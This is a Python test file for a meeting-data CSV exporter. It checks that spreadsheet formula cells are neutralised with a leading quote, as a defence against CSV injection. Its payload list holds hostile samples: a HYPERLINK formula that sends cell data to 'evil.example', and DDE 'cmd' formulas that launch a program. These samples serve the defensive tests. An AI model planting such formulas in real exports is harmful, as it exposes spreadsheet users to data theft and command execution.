"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP, CSV Injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from feishu_vc_async.export._writers import encode_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=",
]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_any_text_cell_gets_a_leading_quote(payload: str) -> None:
    row = {
        "meeting_no": "123456789",
        "participant_name": payload,
        "department": payload,
        "email": payload,
    }
    [cells] = _cells(encode_csv([row.values()]))
    assert cells == ["123456789", "'" + payload, "'" + payload, "'" + payload]


def test_numbers_flags_and_blanks_the_tool_writes_are_left_alone() -> None:
    row: dict[str, Any] = {
        "meeting_start_time": 1_759_990_000,
        "negative": -5,
        "accept_status": 1,
        "audio": True,
        "video": False,
        "phone": None,
    }
    assert encode_csv([row.values()]) == b"1759990000,-5,1,true,false,\r\n"


@pytest.mark.parametrize("text", ["Alice", "a=b", " =1+1", "1-2", "'=already", "朱勇", ""])
def test_text_that_does_not_start_a_formula_is_unchanged(text: str) -> None:
    assert _cells(encode_csv([(text, 1)])) == [[text, "1"]]


def test_raw_writes_the_values_as_sent() -> None:
    rows = [(p, "+86-13800000000") for p in PAYLOADS]
    assert _cells(encode_csv(rows, raw=True)) == [[p, "+86-13800000000"] for p in PAYLOADS]


@given(st.text())
def test_no_cell_read_back_starts_a_formula(text: str) -> None:
    [[cell]] = _cells(encode_csv([(text,)])) or [[""]]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)
